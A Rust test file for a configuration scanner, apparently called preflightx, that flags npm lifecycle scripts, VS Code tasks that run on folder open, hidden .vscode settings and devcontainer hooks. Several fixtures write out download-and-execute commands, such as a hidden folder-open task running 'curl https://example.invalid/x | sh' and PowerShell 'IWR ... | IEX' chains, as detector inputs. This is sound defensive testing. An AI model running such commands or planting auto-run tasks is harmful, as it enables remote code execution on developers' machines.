use preflightx::json::Json;
use preflightx::model::Severity;
use preflightx::scanner::analyzers::ide::{analyze_settings, analyze_tasks, download_or_shell_chain, hides_security_path};
use preflightx::scanner::analyzers::{analyze, bounded, config_format, parse_config, ConfigFormat};

fn to_json(value: &serde_json::Value) -> Json {
    match value {
        serde_json::Value::Null => Json::Null,
        serde_json::Value::Bool(b) => Json::Bool(*b),
        serde_json::Value::Number(n) => Json::Number(n.to_string()),
        serde_json::Value::String(s) => Json::Str(s.clone()),
        serde_json::Value::Array(items) => Json::Array(items.iter().map(to_json).collect()),
        serde_json::Value::Object(map) => {
            Json::Object(map.iter().map(|(k, v)| (k.clone(), to_json(v))).collect())
        }
    }
}

fn parse(text: &str) -> Result<Json, String> {
    serde_json::from_str::<serde_json::Value>(text)
        .map(|v| to_json(&v))
        .map_err(|e| e.to_string())
}

fn parse5(text: &str) -> Result<Json, String> {
    json5::from_str::<serde_json::Value>(text)
        .map(|v| to_json(&v))
        .map_err(|e| e.to_string())
}

#[test]
fn rejects_oversized_security_configuration() {
    let text = " ".repeat(4 * 1024 * 1024 + 1);
    let analysis = analyze(".vscode/tasks.json", Some(&text), &Err("not parsed".to_owned()));
    assert_eq!(analysis.incomplete_reasons.len(), 1);
}

#[test]
fn finds_lifecycle_and_start_execution_roots_without_package_identity_analysis() {
    let text = r#"{"name":"local-fixture","scripts":{"postinstall":"node setup.js","start":"node app.js"},"dependencies":{"local-fixture-dep":"1.2.3"}}"#;
    let analysis = analyze("package.json", Some(text), &parse(text));
    assert_eq!(analysis.findings.len(), 2);
    assert!(analysis.findings.iter().any(|finding| finding.id == "NPM-LIFECYCLE-SCRIPT"));
    assert!(analysis.findings.iter().any(|finding| finding.id == "NPM-EXECUTION-SCRIPT"));
}

#[test]
fn malformed_manifest_marks_execution_root_coverage_incomplete() {
    let text = "{ not valid JSON";
    let analysis = analyze("package.json", Some(text), &parse(text));
    assert_eq!(analysis.findings[0].id, "CONFIG-PARSE-FAILED");
    assert_eq!(analysis.incomplete_reasons.len(), 1);
}

#[test]
fn detects_folder_open_download_and_execute() {
    let text = r#"{
        tasks: [{
            label: "setup",
            command: "curl https://example.invalid/x | sh",
            runOptions: { runOn: "folderOpen" },
            presentation: { reveal: "never" }
        }]
    }"#;
    let value = parse5(text).unwrap();
    let analysis = analyze_tasks(".vscode/tasks.json", text, &value);
    assert_eq!(analysis.findings[0].severity, Severity::Critical);
    assert_eq!(
        analysis.findings[0].evidence,
        vec![
            "task: setup".to_owned(),
            "runOn: folderOpen".to_owned(),
            "command: curl https://example.invalid/x | sh".to_owned(),
            "terminal reveal: never".to_owned(),
        ]
    );
    assert_eq!(analysis.findings[0].line, Some(5));
}

#[test]
fn detects_hidden_vscode_configuration() {
    let text = r#"{"files.exclude":{".vscode":true}}"#;
    let value = parse(text).unwrap();
    let analysis = analyze_settings(".vscode/settings.json", text, &value);
    assert_eq!(analysis.findings[0].id, "IDE-HIDDEN-SECURITY-FILES");
}

#[test]
fn devcontainer_hooks_and_launch_tasks_are_reported() {
    let text = "{\n\"postCreateCommand\": [\"npm\", \"install\"],\n\"initializeCommand\": {\"a\": \"x\", \"b\": \"y\"}\n}";
    let analysis = analyze(".devcontainer/devcontainer.json", Some(text), &parse5(text));
    let evidence: Vec<&str> = analysis.findings.iter().map(|f| f.evidence[0].as_str()).collect();
    assert_eq!(evidence, vec!["initializeCommand: x y", "postCreateCommand: npm install"]);
    assert_eq!(analysis.findings[1].line, Some(2));
    let launch = r#"{"configurations":[{"preLaunchTask":"build"},{"name":"x"}]}"#;
    let analysis = analyze(".vscode/launch.json", Some(launch), &parse5(launch));
    assert_eq!(analysis.findings.len(), 1);
    assert_eq!(analysis.findings[0].evidence, vec!["preLaunchTask: build".to_owned()]);
}

#[test]
fn formats_and_helpers() {
    assert_eq!(config_format("a/package.json", "{}"), Some(ConfigFormat::Json));
    assert_eq!(config_format(".vscode/settings.json", "{}"), Some(ConfigFormat::Json5));
    assert_eq!(config_format("src/app.json", "{}"), None);
    assert!(download_or_shell_chain("IWR http://x | IEX (stuff)"));
    assert!(!download_or_shell_chain("curl http://x -o file"));
    assert!(download_or_shell_chain("Invoke-WebRequest x | powershell"));
    assert!(hides_security_path("**/.VSCODE"));
    let long = "x".repeat(600);
    assert_eq!(bounded(&long).chars().count(), 513);
    assert!(bounded(&long).ends_with('…'));
    assert_eq!(bounded("short"), "short");
}

#[test]
fn configuration_files_are_parsed_in_their_format() {
    match parse_config("package.json", Some("{\"name\": \"demo\", \"version\": 1}")) {
        Ok(Json::Object(entries)) => {
            assert_eq!(entries.len(), 2);
            assert_eq!(entries[0].0, "name");
            assert!(matches!(&entries[0].1, Json::Str(s) if s == "demo"));
            assert!(matches!(&entries[1].1, Json::Number(n) if n == "1"));
        }
        _ => panic!("package.json should parse as a JSON object"),
    }
    // Developer-tool settings may carry comments and trailing commas.
    match parse_config(".vscode/settings.json", Some("{ // editor settings\n \"a\": true, }")) {
        Ok(Json::Object(entries)) => {
            assert_eq!(entries.len(), 1);
            assert!(matches!(&entries[0].1, Json::Bool(true)));
        }
        _ => panic!("settings should parse as JSON5"),
    }
    // Strict JSON refuses what JSON5 accepts.
    assert!(parse_config("package.json", Some("{ // comment\n}")).is_err());
    assert_eq!(parse_config("README.md", Some("{}")).unwrap_err(), "file is not a configuration file");
    assert_eq!(parse_config("package.json", None).unwrap_err(), "file is not text");
}

#[test]
fn deeply_nested_settings_are_refused_before_parsing() {
    let deep = "[".repeat(300_000);
    assert_eq!(
        parse_config(".vscode/settings.json", Some(&deep)).unwrap_err(),
        "configuration nesting limit of 128 exceeded"
    );
    // Brackets in strings and comments do not nest.
    let text = format!("{{ \"a\": \"{}\" /* {} */ }}", "[".repeat(500), "{".repeat(500));
    assert!(parse_config(".vscode/settings.json", Some(&text)).is_ok());
}
